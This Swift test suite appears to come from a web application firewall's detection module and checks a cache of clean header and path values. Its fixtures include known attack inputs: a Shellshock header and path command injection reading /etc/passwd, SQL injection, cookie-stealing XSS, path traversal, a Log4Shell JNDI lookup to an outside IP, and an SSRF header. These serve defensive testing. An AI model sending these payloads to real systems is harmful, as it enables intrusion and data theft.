import MirrorGuardCore
import RequestParsing
import Testing
@testable import Detection

@Suite("Clean-value cache")
struct CleanValueCacheTests {
    func exchange(_ target: String, host: String = "shop.test", headers: [(String, String)]) -> Exchange {
        let fields = HeaderFields(([("Host", host)] + headers).map { HeaderField(name: $0.0, value: $0.1) })
        return Exchange(request: HTTPRequest(method: "GET", target: target, headers: fields, body: []))
    }

    func signature(_ analysis: Analysis) -> [String] {
        analysis.hits.map { "\($0.type.rawValue) \($0.detector) \($0.point) \($0.fragment)" }
    }

    // Values under common field names (`HeaderPointNames`) and path values are the ones cached.
    @Test("the hits are the same with and without a cache, for repeated clean and attacking header and path values")
    func sameVerdicts() {
        let agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "sqlmap/1.7.2#stable (https://sqlmap.org)",
                      "okhttp/4.12.0", "() { :; }; /bin/bash -c 'cat /etc/passwd'"]
        let referers = ["https://shop.test/cart", "https://shop.test/search?q=1' UNION SELECT password FROM users--", "javascript:alert(1)"]
        let extras = ["en-US,en;q=0.9", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "${jndi:ldap://203.0.113.9/a}"]
        let targets = ["/products/red-shoes?id=1", "/static/../../../etc/passwd", "/cart", "/api/v1/users/1;cat%20/etc/passwd",
                       "/products/red-shoes", "/files/%2e%2e/%2e%2e/boot.ini", "/search/1%27%20OR%201=1--"]
        var exchanges: [Exchange] = []
        for round in 0..<3 {
            for (index, agent) in agents.enumerated() {
                exchanges.append(exchange(targets[(index * 2 + round) % targets.count], headers: [
                    ("User-Agent", agent), ("Referer", referers[(index + round) % referers.count]),
                    ("X-Requested-With", extras[(index * 3 + round) % extras.count]), ("Accept-Language", "en-US,en;q=0.9"),
                ]))
            }
        }
        let analyzer = Analyzer()
        let cache = CleanValueCache()
        var attacks = 0
        for exchange in exchanges {
            let plain = analyzer.analyze(exchange)
            let cached = analyzer.analyze(exchange, cache: cache)
            #expect(signature(cached) == signature(plain))
            if plain.isAttack { attacks += 1 }
        }
        #expect(attacks >= 10)
        #expect(cache.hits > 0)
        #expect(cache.lookups > cache.hits)
    }

    @Test("a value found clean under one host is inspected again under another")
    func hostIsPartOfTheKey() {
        let analyzer = Analyzer()
        let cache = CleanValueCache()
        let callback = [("X-Forwarded-Host", "http://127.0.0.1:8080/internal/flush")]
        // Sent to the internal host itself, the URL is the site's own; sent to the public host, it reaches inside.
        #expect(!analyzer.analyze(exchange("/hook", host: "127.0.0.1:8080", headers: callback), cache: cache).isAttack)
        #expect(cache.stores > 0)
        #expect(analyzer.analyze(exchange("/hook", host: "shop.test", headers: callback), cache: cache).hits.contains { $0.type == .ssrf })
    }

    @Test("a cache handed to an analyser with other detectors enabled starts empty")
    func detectorSetIsPartOfTheKey() {
        var configuration = AnalyzerConfiguration()
        configuration.disabledDetectors = ["sqli"]
        let cache = CleanValueCache()
        let value = [("X-Api-Key", "1' OR '1'='1' -- ")]
        #expect(!Analyzer(configuration: configuration).analyze(exchange("/", headers: value), cache: cache).isAttack)
        #expect(cache.count > 0)
        #expect(Analyzer().analyze(exchange("/", headers: value), cache: cache).hits.contains { $0.type == .sqli })
    }

    @Test("an entry matches only the same name, host and bytes, whatever the hash says")
    func entriesCompareBytes() {
        let cache = CleanValueCache(capacity: 1)
        let stored = Array("Mozilla/5.0 (X11)".utf8)
        cache.store(.init(hash: 7, index: -1), name: "header.user-agent", host: Array("shop.test".utf8), value: stored)
        cache.store(.init(hash: 8, index: 1), name: "path", host: Array("shop.test".utf8), value: stored)
        func found(_ name: String, _ host: String, _ value: String, hash: UInt64 = 7, index: Int = -1) -> Bool {
            Array(value.utf8).withUnsafeBufferPointer { cache.contains(.init(hash: hash, index: index), name: name, host: Array(host.utf8), value: $0) }
        }
        #expect(!found("header.user-agent", "shop.test", "Mozilla/5.0 (X11)"))  // the path entry took the only slot
        cache.store(.init(hash: 7, index: -1), name: "header.user-agent", host: Array("shop.test".utf8), value: stored)
        #expect(found("header.user-agent", "shop.test", "Mozilla/5.0 (X11)"))
        #expect(!found("header.user-agent", "shop.test", "Mozilla/5.0 (X1')"))
        #expect(!found("header.referer", "shop.test", "Mozilla/5.0 (X11)"))
        #expect(!found("header.user-agent", "shop.tesu", "Mozilla/5.0 (X11)"))
        #expect(!found("header.user-agent", "shop.test", "Mozilla/5.0 (X11)", index: 0))
        cache.store(.init(hash: 7, index: 1), name: "path", host: Array("shop.test".utf8), value: stored)
        #expect(found("path", "shop.test", "Mozilla/5.0 (X11)", index: 1))
        #expect(!found("path", "shop.test", "Mozilla/5.0 (X11)", index: 2))
        #expect(cache.hits == 2 && cache.lookups == 8)
    }

    @Test("the cache holds at most its capacity and no value longer than its limit")
    func bounded() {
        let analyzer = Analyzer()
        let cache = CleanValueCache(capacity: 5, maxValueBytes: 64)
        #expect(cache.capacity == 8)
        for number in 0..<200 {
            _ = analyzer.analyze(exchange("/", headers: [("X-Amzn-Trace-Id", "trace value number \(number)")]), cache: cache)
        }
        #expect(cache.count <= 8)
        #expect(cache.stores >= 200)
        // Only the host is looked up: the 100-byte value is over the limit, inspected and not kept.
        let lookupsBefore = cache.lookups
        _ = analyzer.analyze(exchange("/", headers: [("X-Request-Id", String(repeating: "word ", count: 20))]), cache: cache)
        #expect(cache.lookups == lookupsBefore + 1)
    }

    @Test("the slot hash reads every byte of values of every length, and the name and index")
    func hashReadsEveryByte() {
        for length in 0...40 {
            let value = (0..<length).map { UInt8(truncatingIfNeeded: 0x41 + $0 * 7) }
            let hash = value.withUnsafeBufferPointer { CleanValueCache.hash(name: "header.accept", index: -1, value: $0, hostHash: 3) }
            #expect(hash & 1 == 1)
            // The same bytes at another address hash alike; one byte changed anywhere, or one more, moves the hash.
            #expect(Array(value + [0]).withUnsafeBufferPointer { CleanValueCache.hash(name: "header.accept", index: -1, value: UnsafeBufferPointer(rebasing: $0[..<length]), hostHash: 3) } == hash)
            #expect((value + [0x41]).withUnsafeBufferPointer { CleanValueCache.hash(name: "header.accept", index: -1, value: $0, hostHash: 3) } != hash)
            for position in 0..<length {
                var changed = value
                changed[position] ^= 0x20
                #expect(changed.withUnsafeBufferPointer { CleanValueCache.hash(name: "header.accept", index: -1, value: $0, hostHash: 3) } != hash, "length \(length), byte \(position)")
            }
            #expect(value.withUnsafeBufferPointer { CleanValueCache.hash(name: "header.accepu", index: -1, value: $0, hostHash: 3) } != hash)
            #expect(value.withUnsafeBufferPointer { CleanValueCache.hash(name: "header.accept", index: 0, value: $0, hostHash: 3) } != hash)
            #expect(value.withUnsafeBufferPointer { CleanValueCache.hash(name: "header.accept", index: -1, value: $0, hostHash: 4) } != hash)
        }
    }
}
